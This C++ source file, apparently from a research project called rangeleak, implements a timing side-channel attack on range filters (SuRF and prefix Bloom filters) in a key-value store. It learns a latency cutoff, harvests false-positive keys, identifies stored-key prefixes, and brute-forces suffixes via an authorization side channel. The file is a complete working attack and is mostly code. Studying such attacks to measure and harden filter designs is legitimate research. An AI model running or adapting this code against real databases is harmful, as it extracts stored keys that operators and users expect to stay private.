/*
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
#include "rangeleak/attack.hpp"

#include <algorithm>
#include <cmath>
#include <map>
#include <sstream>

#include "rangeleak/errors.hpp"
#include "rangeleak/hash.hpp"

namespace rangeleak {

namespace {

uint64_t key_mask(unsigned bits) {
  return bits >= 64 ? ~uint64_t{0} : ((uint64_t{1} << bits) - 1);
}

unsigned fixed_key_bits(const System& sys) {
  auto b = sys.key_len_bits();
  if (!b) throw ContractViolation("attack requires a fixed-length key space");
  return *b;
}

uint8_t public_key_hash(const System& sys, const Key& k) {
  const FilterConfig& fc = sys.store().filter_config();
  uint64_t mask = (uint64_t{1} << fc.surf_hash_bits) - 1;
  return static_cast<uint8_t>(hash_bytes(k.bytes(), fc.seed) & mask);
}

void bump(uint64_t* out, uint64_t n = 1) {
  if (out) *out += n;
}

}  // namespace

TimingClassifier learn_cutoff(System& sys, uint64_t probes, uint64_t seed,
                              unsigned samples_per_key) {
  if (probes < 10000) throw ContractViolation("cutoff learning needs >= 1e4 probes");
  unsigned m = fixed_key_bits(sys);
  uint64_t mask = key_mask(m);

  TimingClassifier cls;
  cls.samples_per_key = samples_per_key;
  std::vector<uint64_t>& hist = cls.histogram;
  PrfStream prf(mix64(seed ^ 0x1ea121c5eedULL));
  for (uint64_t i = 0; i < probes; ++i) {
    Key k = Key::from_uint(prf.next() & mask, m);
    double lat = sys.get(k).latency_us;
    size_t bucket = std::min<size_t>(size_t(lat / cls.bucket_width_us), 4095);
    if (bucket >= hist.size()) hist.resize(bucket + 1, 0);
    ++hist[bucket];
  }

  std::vector<size_t> maxima;
  for (size_t i = 0; i < hist.size(); ++i) {
    if (hist[i] == 0) continue;
    bool left_ok = i == 0 || hist[i] >= hist[i - 1];
    bool right_ok = i + 1 >= hist.size() || hist[i] >= hist[i + 1];
    if (left_ok && right_ok) maxima.push_back(i);
  }
  if (maxima.size() < 2) throw ClassifierError("response-time histogram is not bimodal");
  std::stable_sort(maxima.begin(), maxima.end(),
                   [&](size_t a, size_t b) { return hist[a] > hist[b]; });
  size_t primary = maxima[0];
  for (size_t mi = 1; mi < maxima.size(); ++mi) {
    size_t second = maxima[mi];
    size_t lo = std::min(primary, second), hi = std::max(primary, second);
    if (hi - lo < 2) continue;
    uint64_t valley = ~uint64_t{0};
    for (size_t j = lo + 1; j < hi; ++j) valley = std::min(valley, hist[j]);
    if (valley * 2 > std::min(hist[primary], hist[second])) continue;  // dip too shallow
    // of the minimum-density buckets, take the one nearest the midpoint of
    // the two modes: wide empty valleys get a centered cutoff
    double target = double(lo + hi) / 2.0;
    size_t best_bucket = lo + 1;
    double best_dist = 1e300;
    for (size_t j = lo + 1; j < hi; ++j) {
      if (hist[j] != valley) continue;
      double dist = std::abs(double(j) - target);
      if (dist < best_dist) {
        best_dist = dist;
        best_bucket = j;
      }
    }
    cls.cutoff_us = cls.bucket_width_us * (double(best_bucket) + 0.5);
    cls.fast_mode_bucket = lo;
    cls.slow_mode_bucket = hi;
    return cls;
  }
  throw ClassifierError("no valley separates the two dominant response-time modes");
}

namespace {

// Attacker-side classification of a single probe key, all samples cold.
bool classify_standalone(System& sys, const TimingClassifier& cls, const Key& k,
                         AttackMode mode, uint64_t* queries) {
  if (mode == AttackMode::idealized) {
    bump(queries);
    return sys.idealized_probe(k);
  }
  double sum = 0;
  for (unsigned s = 0; s < cls.samples_per_key; ++s) {
    sys.wait_for_eviction();
    sum += sys.get(k).latency_us;
    bump(queries);
  }
  return sum / cls.samples_per_key > cls.cutoff_us;
}

// Breadth-first classification of a replayable key stream: one query per key
// per iteration, eviction waits only at iteration barriers.
template <typename KeyAt, typename OnPositive>
void classify_stream(System& sys, const TimingClassifier& cls, uint64_t n, AttackMode mode,
                     uint64_t* queries, KeyAt&& key_at, OnPositive&& on_positive) {
  if (mode == AttackMode::idealized) {
    for (uint64_t i = 0; i < n; ++i) {
      bump(queries);
      if (sys.idealized_probe(key_at(i))) on_positive(i);
    }
    return;
  }
  std::vector<float> sums(n, 0.f);
  for (unsigned iter = 0; iter < cls.samples_per_key; ++iter) {
    for (uint64_t i = 0; i < n; ++i) {
      sums[i] += float(sys.get(key_at(i)).latency_us);
      bump(queries);
    }
    sys.wait_for_eviction();
  }
  for (uint64_t i = 0; i < n; ++i)
    if (sums[i] / float(cls.samples_per_key) > cls.cutoff_us) on_positive(i);
}

}  // namespace

bool is_positive(System& sys, const TimingClassifier& cls, const Key& k, AttackMode mode) {
  return classify_standalone(sys, cls, k, mode, nullptr);
}

std::vector<Key> find_fpk_surf(System& sys, const TimingClassifier& cls, uint64_t n,
                               uint64_t seed, AttackMode mode, uint64_t* queries_out) {
  unsigned m = fixed_key_bits(sys);
  uint64_t mask = key_mask(m);
  std::vector<uint64_t> stream(n);
  PrfStream prf(mix64(seed ^ 0xf1dfb17full));
  for (auto& v : stream) v = prf.next() & mask;
  std::vector<Key> positives;
  classify_stream(
      sys, cls, n, mode, queries_out, [&](uint64_t i) { return Key::from_uint(stream[i], m); },
      [&](uint64_t i) { positives.push_back(Key::from_uint(stream[i], m)); });
  return positives;
}

std::vector<Key> find_fpk_pbf(System& sys, const TimingClassifier& cls, unsigned l_bits,
                              uint64_t n, uint64_t seed, AttackMode mode,
                              uint64_t* queries_out) {
  if (l_bits % 8 != 0 || l_bits == 0)
    throw ContractViolation("pbf guesses must be whole bytes long");
  uint64_t mask = key_mask(l_bits);
  std::vector<uint64_t> stream(n);
  PrfStream prf(mix64(seed ^ (0x9bf0baf0ULL + l_bits)));
  for (auto& v : stream) v = prf.next() & mask;
  std::vector<Key> positives;
  classify_stream(
      sys, cls, n, mode, queries_out,
      [&](uint64_t i) { return Key::from_uint(stream[i], l_bits); },
      [&](uint64_t i) { positives.push_back(Key::from_uint(stream[i], l_bits)); });
  return positives;
}

unsigned detect_pbf_prefix_len(System& sys, const TimingClassifier& cls,
                               uint64_t probes_per_length,
                               const std::vector<unsigned>& lengths_bits, double margin,
                               uint64_t seed, AttackMode mode, uint64_t* queries_out) {
  if (probes_per_length < 1000) throw ContractViolation("length detection needs >= 1e3 probes");
  if (lengths_bits.size() < 2) throw ContractViolation("need at least two candidate lengths");
  std::vector<double> fractions;
  for (unsigned l : lengths_bits) {
    if (l % 8 != 0 || l == 0) throw ContractViolation("candidate lengths must be whole bytes");
    uint64_t mask = key_mask(l);
    PrfStream prf(mix64(seed ^ (0xdE7ec7ULL + l)));
    std::vector<uint64_t> stream(probes_per_length);
    for (auto& v : stream) v = prf.next() & mask;
    uint64_t hits = 0;
    classify_stream(
        sys, cls, probes_per_length, mode, queries_out,
        [&](uint64_t i) { return Key::from_uint(stream[i], l); }, [&](uint64_t) { ++hits; });
    fractions.push_back(double(hits) / double(probes_per_length));
  }
  size_t best = 0, runner = 1;
  if (fractions[runner] > fractions[best]) std::swap(best, runner);
  for (size_t i = 2; i < fractions.size(); ++i) {
    if (fractions[i] > fractions[best]) {
      runner = best;
      best = i;
    } else if (fractions[i] > fractions[runner]) {
      runner = i;
    }
  }
  // The winner must beat the runner-up by the relative margin and by more
  // than counting noise, or a flat profile could elect a spurious length.
  double w = fractions[best] * double(probes_per_length);
  double r = fractions[runner] * double(probes_per_length);
  double noise = 4.0 * std::sqrt(w + r + 1.0);
  if (w <= 0 || w - r < std::max(margin * r, noise))
    throw DetectionError("no prefix length stands out above the baseline positive rate");
  return lengths_bits[best];
}

namespace {

Key mutate_tail(const Key& kappa, size_t from) {
  Key probe = kappa;
  for (size_t j = from; j < kappa.size(); ++j)
    probe.set_byte(j, static_cast<uint8_t>(kappa[j] + 1));
  return probe;
}

// surf-hash probe: byte `from` must change, later bytes are free; search
// locally (no queries) for a tail whose full-key hash collides with kappa's.
std::optional<Key> mutate_tail_hash(const System& sys, const Key& kappa, size_t from,
                                    uint8_t constraint, uint64_t seed) {
  for (uint64_t t = 0; t < 1u << 16; ++t) {
    uint64_t r = mix64(seed ^ (t * 0x9e3779b97f4a7c15ULL + from));
    Key probe = kappa;
    probe.set_byte(from, static_cast<uint8_t>(kappa[from] + 1 + (r % 255)));
    for (size_t j = from + 1; j < kappa.size(); ++j)
      probe.set_byte(j, static_cast<uint8_t>(mix64(r ^ j)));
    if (public_key_hash(sys, probe) == constraint) return probe;
  }
  return std::nullopt;
}

}  // namespace

std::optional<CandidatePrefix> id_prefix_surf(System& sys, const TimingClassifier& cls,
                                              const Key& fp_key, FilterKind variant,
                                              AttackMode mode, uint64_t* queries_out) {
  std::optional<uint8_t> hash_c;
  if (variant == FilterKind::surf_hash) hash_c = public_key_hash(sys, fp_key);

  if (!classify_standalone(sys, cls, fp_key, mode, queries_out))
    return std::nullopt;  // behaves negative on re-probe: abandon the round

  bool removal = !sys.key_len_bits().has_value() && variant != FilterKind::surf_hash;
  if (removal) {
    for (size_t len = fp_key.size() - 1; len >= 1; --len) {
      Key probe = fp_key.prefix_bytes(len);
      if (!classify_standalone(sys, cls, probe, mode, queries_out))
        return CandidatePrefix{fp_key.prefix_bytes(len + 1), fp_key, hash_c};
      if (len == 1) break;
    }
    return CandidatePrefix{fp_key.prefix_bytes(1), fp_key, hash_c};
  }

  for (size_t i = fp_key.size(); i-- > 0;) {
    Key probe;
    if (hash_c) {
      auto p = mutate_tail_hash(sys, fp_key, i, *hash_c, mix64(fp_key.bytes()[0] ^ 0x5a5a5a5aULL));
      if (!p) return std::nullopt;  // no hash-colliding mutation found
      probe = *p;
    } else {
      probe = mutate_tail(fp_key, i);
    }
    if (!classify_standalone(sys, cls, probe, mode, queries_out))
      return CandidatePrefix{fp_key.prefix_bytes(i + 1), fp_key, hash_c};
  }
  return std::nullopt;  // every mutation stayed positive: nothing learned
}

std::optional<Key> extend_prefix(System& sys, const CandidatePrefix& pfx,
                                 unsigned target_key_bits, uint64_t budget,
                                 uint64_t* queries_out) {
  if (sys.config().acl_mode != AclMode::distinguishing)
    throw ContractViolation("prefix extension needs responses that distinguish absence from "
                            "lack of authorization");
  unsigned pfx_bits = pfx.prefix.bit_length();
  if (pfx_bits > target_key_bits) throw ContractViolation("prefix longer than the key space");
  unsigned suffix_bytes = (target_key_bits - pfx_bits) / 8;
  uint64_t space = suffix_bytes >= 8 ? ~uint64_t{0} : (uint64_t{1} << (8 * suffix_bytes));
  if (budget == 0) budget = space;

  uint64_t used = 0;
  for (uint64_t sfx = 0; sfx < space; ++sfx) {
    Key candidate = pfx.prefix;
    for (unsigned b = 0; b < suffix_bytes; ++b)
      candidate = candidate.append(static_cast<uint8_t>(sfx >> (8 * (suffix_bytes - 1 - b))));
    if (pfx.hash_constraint && public_key_hash(sys, candidate) != *pfx.hash_constraint)
      continue;  // hash mismatch: skip without querying
    if (used >= budget) return std::nullopt;
    ++used;
    bump(queries_out);
    if (sys.get(candidate).cls != OutcomeClass::not_found) return candidate;
  }
  return std::nullopt;
}

void AttackConfig::validate(const System& sys) const {
  unsigned m = fixed_key_bits(sys);
  if (min_prefix_bits > m)
    throw ContractViolation("minimum prefix length exceeds the key length");
  if (samples_per_key == 0) throw ContractViolation("samples_per_key must be >= 1");
  if (mode == AttackMode::timed && !cutoff_us_override && learn_probes < 10000)
    throw ContractViolation("cutoff learning needs >= 1e4 probes");
}

namespace {

// Step-2 state machine, advanced one query per scheduler round.
struct IdPrefixTask {
  Key kappa;
  std::optional<uint8_t> hash_c;
  bool removal = false;
  enum class Phase { verify, probing, done, abandoned } phase = Phase::verify;
  size_t pos = 0;   // mutation index (fixed-length mode)
  size_t len = 0;   // probe length (removal mode)
  Key cur_probe;
  double sum = 0;
  unsigned samples = 0;
  uint64_t queries = 0;
  Key result;
  const System* sys = nullptr;

  bool make_probe() {
    if (removal) {
      cur_probe = kappa.prefix_bytes(len);
      return true;
    }
    if (hash_c) {
      auto p = mutate_tail_hash(*sys, kappa, pos, *hash_c, mix64(kappa[0] ^ 0x5a5a5a5aULL));
      if (!p) return false;
      cur_probe = *p;
      return true;
    }
    cur_probe = mutate_tail(kappa, pos);
    return true;
  }

  void start_probing() {
    phase = Phase::probing;
    if (removal) {
      len = kappa.size() - 1;
      if (len == 0) {  // single-byte key: nothing to strip
        result = kappa;
        phase = Phase::done;
        return;
      }
    } else {
      pos = kappa.size() - 1;
    }
    if (!make_probe()) phase = Phase::abandoned;
  }

  void on_decision(bool positive) {
    if (phase == Phase::verify) {
      if (!positive) {
        phase = Phase::abandoned;
        return;
      }
      start_probing();
      return;
    }
    if (removal) {
      if (!positive) {
        result = kappa.prefix_bytes(len + 1);
        phase = Phase::done;
        return;
      }
      if (len == 1) {  // shortest probe still positive
        result = kappa.prefix_bytes(1);
        phase = Phase::done;
        return;
      }
      --len;
    } else {
      if (!positive) {
        result = kappa.prefix_bytes(pos + 1);
        phase = Phase::done;
        return;
      }
      if (pos == 0) {  // all mutations positive: nothing learned
        phase = Phase::abandoned;
        return;
      }
      --pos;
    }
    if (!make_probe()) phase = Phase::abandoned;
  }

  bool active() const { return phase == Phase::verify || phase == Phase::probing; }
};

// Step-3 state machine: one candidate query per scheduler round.
struct ExtendTask {
  CandidatePrefix pfx;
  unsigned suffix_bytes = 0;
  uint64_t space = 0;
  uint64_t budget = 0;
  uint64_t next_sfx = 0;
  uint64_t queries = 0;
  bool exhausted = false;
  std::optional<Key> hit;

  bool active() const { return !hit && !exhausted; }

  // nullopt => budget or space exhausted
  std::optional<Key> next_candidate(const System& sys) {
    while (next_sfx < space) {
      if (queries >= budget) break;
      uint64_t sfx = next_sfx++;
      Key candidate = pfx.prefix;
      for (unsigned b = 0; b < suffix_bytes; ++b)
        candidate = candidate.append(static_cast<uint8_t>(sfx >> (8 * (suffix_bytes - 1 - b))));
      if (pfx.hash_constraint && public_key_hash(sys, candidate) != *pfx.hash_constraint)
        continue;
      return candidate;
    }
    exhausted = true;
    return std::nullopt;
  }
};

}  // namespace

AttackReport run_attack(System& sys, const AttackConfig& cfg) {
  cfg.validate(sys);
  unsigned m = fixed_key_bits(sys);

  AttackReport rep;
  rep.mode = cfg.mode;
  rep.filter_kind = cfg.filter_kind;

  uint64_t total = 0;
  auto record = [&]() { rep.series.push_back({total, rep.keys_extracted.size()}); };
  auto progress = [&](int step, uint64_t iteration, uint64_t positives) {
    if (!cfg.progress_sink) return;
    std::ostringstream os;
    os << step << "," << iteration << "," << total << "," << positives;
    cfg.progress_sink(os.str());
  };

  TimingClassifier cls;
  cls.samples_per_key = cfg.samples_per_key;
  if (cfg.mode == AttackMode::timed) {
    if (cfg.cutoff_us_override) {
      cls.cutoff_us = *cfg.cutoff_us_override;
    } else {
      uint64_t before = sys.query_count();
      cls = learn_cutoff(sys, cfg.learn_probes, mix64(cfg.seed ^ 0x11ULL), cfg.samples_per_key);
      rep.learn_queries = sys.query_count() - before;
      total += rep.learn_queries;
    }
    rep.cutoff_us = cls.cutoff_us;
  }

  bool pbf = cfg.filter_kind == FilterKind::pbf;

  // Step 1: find positive keys.
  std::vector<Key> positives;
  {
    uint64_t q = 0;
    if (pbf) {
      unsigned l = 0;
      if (cfg.pbf_known_prefix_bits) {
        l = *cfg.pbf_known_prefix_bits;
      } else {
        // Lengths of 8 bits are trivial: the 256-value probe space makes the
        // per-instance positive fraction as lumpy as the prefix bump itself.
        std::vector<unsigned> lengths = cfg.pbf_lengths_bits;
        if (lengths.empty())
          for (unsigned lb = 16; lb + 8 <= m; lb += 8) lengths.push_back(lb);
        l = detect_pbf_prefix_len(sys, cls, cfg.pbf_probes_per_length, lengths,
                                  cfg.pbf_detect_margin, mix64(cfg.seed ^ 0x22ULL), cfg.mode, &q);
        rep.pbf_detect_queries = q;
      }
      rep.pbf_prefix_bits = l;
      positives = find_fpk_pbf(sys, cls, l, cfg.guesses, mix64(cfg.seed ^ 0x33ULL), cfg.mode, &q);
    } else {
      positives =
          find_fpk_surf(sys, cls, cfg.guesses, mix64(cfg.seed ^ 0x33ULL), cfg.mode, &q);
    }
    rep.step1_queries = q;
    total += q;
  }
  rep.false_positives_found = positives.size();
  record();
  progress(1, cfg.mode == AttackMode::timed ? cfg.samples_per_key : 1, positives.size());

  // Step 2: identify shared prefixes, breadth-first across candidates.
  std::vector<std::pair<CandidatePrefix, uint64_t>> identified;  // prefix, id cost
  if (pbf) {
    for (const auto& k : positives) identified.push_back({{k, k, std::nullopt}, 0});
    rep.prefixes_identified = identified.size();
  } else {
    std::vector<IdPrefixTask> tasks(positives.size());
    bool removal = !sys.key_len_bits().has_value() && cfg.filter_kind != FilterKind::surf_hash;
    for (size_t i = 0; i < positives.size(); ++i) {
      auto& t = tasks[i];
      t.kappa = positives[i];
      t.removal = removal;
      t.sys = &sys;
      if (cfg.filter_kind == FilterKind::surf_hash)
        t.hash_c = public_key_hash(sys, positives[i]);
      t.cur_probe = t.kappa;  // verify phase re-probes the candidate itself
    }
    bool any_active = !tasks.empty();
    uint64_t iteration = 0;
    while (any_active) {
      any_active = false;
      bool issued = false;
      ++iteration;
      for (auto& t : tasks) {
        if (!t.active()) continue;
        try {
          if (cfg.mode == AttackMode::idealized) {
            ++t.queries;
            ++total;
            ++rep.step2_queries;
            t.on_decision(sys.idealized_probe(t.cur_probe));
          } else {
            t.sum += sys.get(t.cur_probe).latency_us;
            ++t.samples;
            ++t.queries;
            ++total;
            ++rep.step2_queries;
            issued = true;
            if (t.samples == cls.samples_per_key) {
              bool pos = t.sum / cls.samples_per_key > cls.cutoff_us;
              t.sum = 0;
              t.samples = 0;
              t.on_decision(pos);
            }
          }
        } catch (const std::exception&) {
          ++rep.errors;
          t.phase = IdPrefixTask::Phase::abandoned;
        }
        if (t.active()) any_active = true;
      }
      if (issued && cfg.mode == AttackMode::timed) sys.wait_for_eviction();
      if (iteration % 64 == 0) progress(2, iteration, rep.prefixes_identified);
    }
    for (auto& t : tasks) {
      if (t.phase == IdPrefixTask::Phase::done) {
        ++rep.prefixes_identified;
        identified.push_back({{t.result, t.kappa, t.hash_c}, t.queries});
      } else {
        ++rep.abandoned_rounds;
      }
    }
  }

  // Threshold, then dedup (several false positives can map to one leaf).
  std::map<std::pair<Key, std::optional<uint8_t>>, CandidatePrefix> kept;
  for (const auto& [c, id_cost] : identified) {
    if (c.length_bits() < cfg.min_prefix_bits) {
      ++rep.prefixes_discarded;
      rep.discarded_prefix_queries += id_cost;
    } else {
      kept.try_emplace(std::make_pair(c.prefix, c.hash_constraint), c);
    }
  }
  rep.prefixes_kept = kept.size();

  // Step 3: extend kept prefixes, breadth-first. Needs the authorization
  // side channel; without it the attack stops at prefix disclosure.
  if (sys.config().acl_mode == AclMode::distinguishing && !kept.empty()) {
    std::vector<ExtendTask> tasks;
    tasks.reserve(kept.size());
    for (auto& [key, c] : kept) {
      ExtendTask t;
      t.pfx = c;
      t.suffix_bytes = (m - c.length_bits()) / 8;
      t.space = t.suffix_bytes >= 8 ? ~uint64_t{0} : (uint64_t{1} << (8 * t.suffix_bytes));
      if (t.suffix_bytes == 0) t.space = 1;  // query the prefix itself
      t.budget = cfg.suffix_budget == 0 ? t.space : cfg.suffix_budget;
      tasks.push_back(std::move(t));
    }
    bool any_active = true;
    uint64_t iteration = 0;
    while (any_active) {
      any_active = false;
      bool issued = false;
      ++iteration;
      for (auto& t : tasks) {
        if (!t.active()) continue;
        try {
          auto cand = t.next_candidate(sys);
          if (!cand) {
            rep.wasted_queries += t.queries;  // bogus or unlucky prefix
            continue;
          }
          ++t.queries;
          ++total;
          issued = true;
          if (sys.get(*cand).cls != OutcomeClass::not_found) {
            t.hit = *cand;
            rep.step3_queries += t.queries;
            rep.keys_extracted.push_back(*cand);
            record();
            continue;
          }
        } catch (const std::exception&) {
          ++rep.errors;
          t.exhausted = true;
          rep.wasted_queries += t.queries;
          continue;
        }
        if (t.active()) any_active = true;
      }
      if (issued && cfg.mode == AttackMode::timed) sys.wait_for_eviction();
      if (iteration % 4096 == 0) progress(3, iteration, rep.keys_extracted.size());
    }
    progress(3, iteration, rep.keys_extracted.size());
  }
  record();
  return rep;
}

std::string AttackReport::to_json() const {
  std::ostringstream os;
  os << "{\"mode\":\"" << (mode == AttackMode::timed ? "timed" : "idealized") << "\"";
  os << ",\"filter_kind\":\"" << to_string(filter_kind) << "\"";
  os << ",\"cutoff_us\":" << cutoff_us;
  if (pbf_prefix_bits) os << ",\"pbf_prefix_bits\":" << pbf_prefix_bits;
  os << ",\"learn_queries\":" << learn_queries;
  os << ",\"step1_queries\":" << step1_queries;
  if (pbf_detect_queries) os << ",\"pbf_detect_queries\":" << pbf_detect_queries;
  os << ",\"step2_queries\":" << step2_queries;
  os << ",\"step3_queries\":" << step3_queries;
  os << ",\"wasted_queries\":" << wasted_queries;
  os << ",\"discarded_prefix_queries\":" << discarded_prefix_queries;
  os << ",\"total_queries\":" << total_queries();
  os << ",\"false_positives_found\":" << false_positives_found;
  os << ",\"prefixes_identified\":" << prefixes_identified;
  os << ",\"prefixes_discarded\":" << prefixes_discarded;
  os << ",\"prefixes_kept\":" << prefixes_kept;
  os << ",\"abandoned_rounds\":" << abandoned_rounds;
  os << ",\"errors\":" << errors;
  os << ",\"keys_extracted\":[";
  for (size_t i = 0; i < keys_extracted.size(); ++i)
    os << (i ? "," : "") << "\"" << keys_extracted[i].to_hex() << "\"";
  os << "],\"series\":[";
  for (size_t i = 0; i < series.size(); ++i)
    os << (i ? "," : "") << "[" << series[i].first << "," << series[i].second << "]";
  os << "]}";
  return os.str();
}

std::string AttackReport::series_csv() const {
  std::ostringstream os;
  os << "total_queries,keys_extracted\n";
  for (const auto& [q, k] : series) os << q << "," << k << "\n";
  return os.str();
}

}  // namespace rangeleak
